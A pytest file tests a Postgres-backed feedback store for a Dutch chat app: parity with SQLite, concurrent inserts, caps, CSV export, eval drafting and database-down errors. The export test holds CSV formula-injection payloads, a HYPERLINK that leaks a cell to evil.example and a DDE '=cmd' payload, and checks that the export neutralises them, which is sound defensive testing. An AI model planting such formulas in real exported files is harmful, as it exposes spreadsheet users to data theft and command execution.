"""Feedback in the postgres backend's database (a real local server): the same rows, caps and CSV as the SQLite
store, no row lost under concurrent writers, drafts for the evals, and a clear message when the database is down."""
from __future__ import annotations

import csv
import io
import json
import os
import socket
import subprocess
import sys
import threading
from dataclasses import asdict, replace
from pathlib import Path

import pytest

from backend_support import postgres_settings, postgres_url
from config import Settings
from evals.__main__ import main as evals_main
from test_ui_security import check_the_caps
from ui.feedback import FeedbackStore, FeedbackUnavailable, PgFeedbackStore, open_feedback_store

REPO = Path(__file__).resolve().parent.parent
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'
PASSAGES = [{"unit_id": "atlas:q31", "citation": "Antwoorden …, vraag 31, p. 19"}]


@pytest.fixture
def url():
    """An empty feedback table in a test database on the local server."""
    url = postgres_url("kamerbrieven_test_feedback")
    PgFeedbackStore(url).rows()  # migrates
    import psycopg

    with psycopg.connect(url, autocommit=True) as conn:
        conn.execute("TRUNCATE feedback RESTART IDENTITY")
    return url


def _add(store, query: str, **fields) -> int:
    values = {"history": ["vraag 87", "Wie vroeg dat?"], "passages": PASSAGES, "rating": "klopt",
              "comment": 'zegt "ja"\nnieuwe regel', "version": {"model": "test", "index_built_at": "x"},
              "reply_kind": "lookup", "user": "anna", **fields}
    return store.add(query=query, **values)


def _closed_port() -> int:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return probe.getsockname()[1]  # nothing listens here once the probe is closed


@pytest.mark.unit
def test_a_row_round_trips_with_every_field_as_in_the_sqlite_store(url, tmp_path):
    postgres, sqlite = PgFeedbackStore(url), FeedbackStore(tmp_path / "feedback.sqlite3")
    for store in (postgres, sqlite):
        assert _add(store, "vraag 31 uit de Atlas-beantwoording") == 1
        assert _add(store, "Wie vroeg dat?", rating="verkeerde-bron", comment="") == 2
    got, want = postgres.rows(), sqlite.rows()
    assert [asdict(r) | {"created_at": ""} for r in got] == [asdict(r) | {"created_at": ""} for r in want]
    assert got[0].created_at[:10] == want[0].created_at[:10] and got[0].created_at.endswith("+00:00")
    assert json.loads(got[0].passages) == PASSAGES and got[0].user == "anna"
    assert json.loads(got[0].version) == {"model": "test", "index_built_at": "x"}


@pytest.mark.unit
def test_forty_concurrent_adds_from_separate_store_objects_lose_none(url):
    start, errors, ids = threading.Barrier(40), [], []

    def writer(n: int) -> None:
        store = PgFeedbackStore(url)  # one per request, as separate app servers and threads would have
        start.wait()
        try:
            ids.append(_add(store, f"vraag {n}", user=f"gebruiker-{n}"))
        except BaseException as error:  # reported below
            errors.append(error)

    threads = [threading.Thread(target=writer, args=(n,)) for n in range(40)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(timeout=120)
    assert not errors, errors
    rows = PgFeedbackStore(url).rows()
    assert sorted(r.query for r in rows) == sorted(f"vraag {n}" for n in range(40))
    assert sorted(ids) == sorted(r.id for r in rows) and len(set(ids)) == 40


@pytest.mark.unit
def test_a_one_megabyte_question_is_capped_as_in_the_sqlite_store(url):
    store = PgFeedbackStore(url)
    check_the_caps(store)
    with pytest.raises(ValueError):
        _add(store, "vraag 31", rating="super")
    assert len(store.rows()) == 1


@pytest.mark.unit
def test_the_export_command_reads_the_postgres_table_and_neutralises_formulas(url, tmp_path):
    store = open_feedback_store(postgres_settings(url))
    assert isinstance(store, PgFeedbackStore)
    store.add(query=HYPERLINK, history=["+1+1", "-2"], rating="klopt", comment="@SUM(A1:A9)",
              passages=[{"unit_id": "atlas:q31", "citation": "=cmd|' /C calc'!A0"}], reply_kind="\tlookup",
              user="\rbob", version={"model": "test"})
    env = {**os.environ, "KB_BACKEND": "postgres", "KB_DATABASE_URL": url,
           "KB_FEEDBACK_DB": str(tmp_path / "not-used.sqlite3")}
    done = subprocess.run([sys.executable, "-m", "ui", "feedback", "export"], cwd=REPO, env=env,
                          capture_output=True, timeout=60)
    assert done.returncode == 0, done.stderr
    assert "1 feedbackregel(s) geëxporteerd uit postgresql://" in done.stderr.decode()
    [row] = list(csv.DictReader(io.StringIO(done.stdout.decode("utf-8"), newline="")))
    assert row["query"] == "'" + HYPERLINK and row["comment"] == "'@SUM(A1:A9)"
    assert row["reply_kind"] == "'\tlookup" and row["user"] == "'\rbob"
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values())
    assert not (tmp_path / "not-used.sqlite3").exists()


@pytest.mark.unit
def test_from_feedback_drafts_cases_from_the_postgres_table(url, tmp_path, corpus, monkeypatch):
    store = PgFeedbackStore(url)
    q31 = corpus.units_for_question(31, "atlas")[0]
    store.add(query="vraag 31 uit de Atlas-beantwoording", history=[], rating="klopt", reply_kind="lookup",
              passages=[{"unit_id": q31.unit_id, "citation": "Antwoorden …, vraag 31, p. 19"}])
    store.add(query="Hoeveel geld krijgt Zeeland uit het Groeifonds?", history=[], rating="klopt",
              passages=[], reply_kind="abstain")
    out = tmp_path / "drafts.jsonl"
    assert evals_main(["from-feedback", "--database-url", url, "--out", str(out)]) == 0
    lookup, nearmiss = [json.loads(line) for line in out.read_text().splitlines()]
    assert lookup["kind"] == "lookup" and lookup["expect"]["letter"] == "atlas" and lookup["draft"] is True
    assert lookup["feedback"]["unit_text"] == q31.text
    assert nearmiss["kind"] == "nearmiss" and nearmiss["expect"] == {"abstain": True}
    # Without a flag, the settings decide: KB_BACKEND=postgres reads the same table.
    monkeypatch.setenv("KB_BACKEND", "postgres")
    monkeypatch.setenv("KB_DATABASE_URL", url)
    again = tmp_path / "again.jsonl"
    assert evals_main(["from-feedback", "--out", str(again)]) == 0
    assert again.read_text() == out.read_text()


@pytest.mark.unit
def test_a_database_that_is_down_gives_an_error_naming_the_cause(tmp_path, capsys):
    port = _closed_port()
    down = f"postgresql://app:geheim@127.0.0.1:{port}/kamerbrieven"
    with pytest.raises(FeedbackUnavailable) as raised:
        _add(PgFeedbackStore(down), "vraag 31")
    message = str(raised.value)
    assert f"postgresql://app@127.0.0.1:{port}/kamerbrieven is not reachable" in message
    assert "refused" in message.lower() and "geheim" not in message
    settings = replace(Settings.from_env(), extra={"backend": "postgres", "database_url": down})
    with pytest.raises(FeedbackUnavailable):
        open_feedback_store(settings).rows()
    assert evals_main(["from-feedback", "--database-url", down, "--out", str(tmp_path / "d.jsonl")]) == 2
    assert "is not reachable" in capsys.readouterr().err


def test_the_chat_says_in_dutch_that_feedback_was_not_stored_when_the_database_is_down(bot, caplog):
    from ui.chat import ChatHandlers
    from ui.conversations import Chat

    port = _closed_port()
    chat = ChatHandlers(bot, PgFeedbackStore(f"postgresql://app@127.0.0.1:{port}/kamerbrieven"))
    turn = chat.respond("vraag 31 uit de Atlas-beantwoording", Chat.new(), [], None, None).turn
    status = chat.feedback("klopt", "goed antwoord", turn)
    assert status.startswith("Feedback kon niet worden opgeslagen: de database is niet bereikbaar")
    assert "Traceback" not in status and str(port) not in status  # the cause goes to the log, not to the user
    assert any(f"127.0.0.1:{port}" in r.getMessage() and "not reachable" in r.getMessage() for r in caplog.records)
